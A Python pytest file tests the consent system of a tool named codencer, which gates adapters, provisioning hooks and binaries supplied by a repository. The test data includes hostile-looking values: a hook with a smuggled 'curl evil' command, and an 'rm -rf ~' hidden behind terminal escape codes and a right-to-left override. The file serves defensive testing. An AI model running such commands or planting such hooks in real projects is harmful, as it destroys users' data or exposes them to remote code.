"""Consent to what a repository's files would run: by content, by repository, and kept safe."""

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from codencer.config import Config, for_checkout, load
from codencer.engine.trust import (
    TrustKind,
    grant,
    grant_all,
    needed,
    needed_for,
    pending,
    require_trust,
    untrusted,
)
from codencer.errors import Forbidden, StorageFailed, Untrusted
from codencer.locate import Repository, find_repository
from codencer.model.step import AdapterSettings, ProvisioningSpec

MakeRepo = Callable[..., Path]

HOOK = ProvisioningSpec(source=".codencer/workspace.json", post_create="npm ci")
NO_HOOK = ProvisioningSpec()


@pytest.fixture
def repository(make_repo: MakeRepo) -> Repository:
    return find_repository(make_repo())


def write(repository: Repository, name: str, text: str) -> None:
    path = repository.top / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(text)


@pytest.fixture
def config(repository: Repository, home: Path) -> Config:
    """A project with an adapter and a binary of its own; the user has an adapter too."""
    write(repository, ".codencer/config.toml", '[adapters.fixer]\ncommand = ["./fix", "--yes"]\n')
    write(repository, ".env", "# codencer\nCODEX_BINARY=./codex\n")
    own = home / ".config" / "codencer" / "config.toml"
    own.parent.mkdir(parents=True)
    own.write_text('[adapters.mine]\ncommand = ["mine"]\n')
    return load(repository)


def test_only_what_comes_from_the_project_needs_trust(config: Config) -> None:
    found = [(item.kind, item.name) for item in needed(config, HOOK)]
    assert found == [
        (TrustKind.ADAPTER, "fixer"),
        (TrustKind.HOOK, ".codencer/workspace.json"),
        (TrustKind.BINARY, "CODEX_BINARY"),
    ]
    assert [item.kind for item in needed(config, NO_HOOK)] == [TrustKind.ADAPTER, TrustKind.BINARY]


def test_binaries_of_the_users_environment_need_none(repository: Repository) -> None:
    config = load(repository, environ={**os.environ, "CODEX_BINARY": "/usr/bin/codex"})
    assert needed(config, NO_HOOK) == []


def test_a_step_needs_only_what_it_starts(config: Config) -> None:
    fixer = config.adapters["fixer"].settings
    assert [item.name for item in needed_for(config, fixer, NO_HOOK)] == ["fixer"]
    assert needed_for(config, config.adapters["mine"].settings, NO_HOOK) == []
    assert [item.name for item in needed_for(config, AdapterSettings(name="codex"), NO_HOOK)] == [
        "CODEX_BINARY"
    ]
    assert [item.kind for item in needed_for(config, AdapterSettings(name="simulation"), HOOK)] == [
        TrustKind.HOOK
    ]


def test_nothing_runs_before_consent_and_then_it_does(config: Config, repository: Repository) -> None:
    fixer = config.adapters["fixer"].settings
    with pytest.raises(Untrusted) as caught:
        require_trust(config, repository, fixer, HOOK)
    for part in ("codencer trust", "adapter fixer", "./fix", "npm ci", str(repository.top)):
        assert part in str(caught.value)
    require_trust(config, repository, fixer, HOOK, grant=True)
    require_trust(config, repository, fixer, HOOK)
    with pytest.raises(Untrusted, match="CODEX_BINARY"):
        require_trust(config, repository, AdapterSettings(name="codex"), NO_HOOK)


@pytest.mark.parametrize(
    "table",
    [
        'command = ["./fix", "--no"]',
        'command = ["./fix --yes"]',
        'command = ["./fix", "--yes"]\nenv = ["AWS_SECRET_ACCESS_KEY"]',
        'command = ["./fix", "--yes"]\nwrite = ["/"]',
    ],
)
def test_any_change_needs_a_new_consent(config: Config, repository: Repository, table: str) -> None:
    grant(needed(config, HOOK), "me")
    assert untrusted(config, needed(config, HOOK)) == []
    write(repository, ".codencer/config.toml", f"[adapters.fixer]\n{table}\n")
    changed = for_checkout(config, repository.top)
    assert [item.name for item in untrusted(changed, needed(changed, HOOK))] == ["fixer"]
    other = replace(HOOK, post_create="npm ci; curl evil")
    assert [item.kind for item in untrusted(config, needed(config, other))] == [TrustKind.HOOK]


def test_consent_is_for_one_repository(config: Config, make_repo: MakeRepo) -> None:
    grant(needed(config, HOOK), "me")
    elsewhere = replace(config, repository=find_repository(make_repo(name="other")))
    assert len(untrusted(elsewhere, needed(elsewhere, HOOK))) == 3


def test_the_users_always_skips_the_question(config: Config, repository: Repository) -> None:
    always = replace(config, trust="always")
    require_trust(always, repository, config.adapters["fixer"].settings, HOOK)
    assert not (Path(os.environ["XDG_STATE_HOME"]) / "codencer" / "trusted.json").exists()


def test_pending_reads_the_files_and_trusting_empties_it(config: Config, repository: Repository) -> None:
    hook = json.dumps({"provisioning": {"hooks": {"post_create": "make deps"}}})
    write(repository, ".codencer/workspace.json", hook)
    kinds = [item.kind for item in pending(config, repository.top)]
    assert kinds == [TrustKind.ADAPTER, TrustKind.HOOK, TrustKind.BINARY]
    assert len(grant_all(config, repository.top, "me")) == 3
    assert pending(config, repository.top) == []
    assert grant_all(config, repository.top, "me") == []


def test_what_is_shown_cannot_hide_anything(config: Config) -> None:
    evil = replace(HOOK, post_create="echo ok\r\x1b[2Krm -rf ~ \u202e\nnext")
    shown = next(item.content for item in needed(config, evil) if item.kind is TrustKind.HOOK)
    assert shown == "echo ok\\r\\x1b[2Krm -rf ~ \\u202e\nnext"
    # What is escaped for the eye stays distinct in the digest.
    literal = replace(HOOK, post_create="echo ok\\r\\x1b[2Krm -rf ~ \\u202e\nnext")
    digests = {item.digest for hook in (evil, literal) for item in needed(config, hook)}
    assert len(digests) == 4


def test_the_record_is_private_and_others_writing_it_proves_nothing(config: Config) -> None:
    items = needed(config, HOOK)
    grant(items[:1], "me")
    grant(items[1:], "me")
    path = Path(os.environ["XDG_STATE_HOME"]) / "codencer" / "trusted.json"
    assert path.stat().st_mode & 0o777 == 0o600
    assert untrusted(config, items) == []
    path.chmod(0o666)
    with pytest.raises(Forbidden, match="remove it"):
        untrusted(config, items)


@pytest.mark.parametrize(
    "content", ["", "{}", "[]", '{"version": 2, "trusted": {}}', '{"version": 1, "trusted": []}']
)
def test_a_damaged_record_fails_closed(config: Config, content: str) -> None:
    items = needed(config, HOOK)
    grant(items, "me")
    (Path(os.environ["XDG_STATE_HOME"]) / "codencer" / "trusted.json").write_text(content)
    with pytest.raises(StorageFailed, match="damaged"):
        untrusted(config, items)
    with pytest.raises(StorageFailed):
        grant(items, "me")
